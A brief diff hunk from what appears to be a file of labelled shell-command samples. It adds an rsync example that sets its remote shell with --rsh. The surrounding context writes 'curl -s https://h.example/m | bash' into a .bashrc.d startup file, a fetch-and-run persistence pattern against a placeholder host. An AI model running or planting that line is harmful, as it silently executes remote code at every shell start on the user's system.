@@ -412,3 +412,5 @@ A
 cat > "$HOME/.bashrc.d/50-x" <<'B'
 curl -s https://h.example/m | bash
 B
+#@ pos rsync's remote shell given in one word with the option (--rsh=)
+rsync -a --rsh='ssh -p 2222' ./d/ h:/d/
